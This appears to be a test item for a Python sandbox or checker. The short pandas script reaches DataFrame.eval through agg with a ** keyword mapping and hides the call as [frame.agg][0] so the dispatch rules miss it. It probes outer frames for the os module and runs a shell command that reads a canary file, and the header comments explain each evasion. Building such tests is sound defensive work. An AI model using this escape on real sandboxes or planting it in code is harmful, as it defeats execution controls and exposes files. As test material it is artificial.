# class: module_reach
# technique: DataFrame.eval reached with agg(**{'func': 'eval', ...}) (dispatch keywords inside a ** mapping are not checked); level= makes pandas' Scope resolve @os in an outer frame's globals (the harness runner); the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
stolen = None
for depth in range(1, 48):
    options = {"func": "eval", "expr": "@os.popen(@cmd).read()", "level": depth,
               "local_dict": {"cmd": "cat {{CANARY_FILE}}"}}
    try:
        stolen = [frame.agg][0](**options)
        break
    except Exception:
        continue
if not stolen:
    raise RuntimeError("no frame with os")
df = pd.DataFrame({"stolen": [stolen]})
